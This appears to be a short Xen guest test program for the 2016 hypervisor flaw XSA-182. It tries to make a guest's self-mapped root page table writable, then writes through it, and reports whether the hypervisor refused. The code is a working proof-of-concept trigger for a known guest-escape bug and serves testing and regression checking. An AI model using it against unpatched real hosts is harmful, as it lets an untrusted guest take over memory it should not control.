/*
 * XSA-182 (2016): the fast path for updates that leave frame and presence alone let RW be added to an entry that maps
 * its own table. A root that maps itself read-only is legal; writable, it hands the guest every page table it has.
 */
#include "guest.h"

enum { SLOT = 300 };

/* The root as it appears through its own entry: the same slot at every level. */
#define WINDOW ((volatile uint64_t *)(0xffff000000000000UL | (SLOT * 0x0000008040201000UL)))

void guest_main(const struct start_info *info)
{
    uint64_t root = frame_number(root_table), at = entry_machine(&root_table[SLOT]);
    (void)info;

    print("XSA-182: a root that maps itself\n");
    print("  read-only = %d\n", (int)mmu_update(at, pte(root, PTE_P | PTE_US | PTE_A)));
    print("  the root seen through itself: %s\n", WINDOW[SLOT] == root_table[SLOT] ? "yes" : "no");

    long answer = mmu_update(at, pte(root, PTE_P | PTE_RW | PTE_US | PTE_A));
    print("  then writable = %d\n", (int)answer);
    if (answer < 0) {
        print("refused\n");
        return;
    }

    mmuext_op(MMUEXT_TLB_FLUSH_LOCAL, 0);
    WINDOW[SLOT + 1] = 0;
    print("accepted: the guest wrote its own root\n");
}
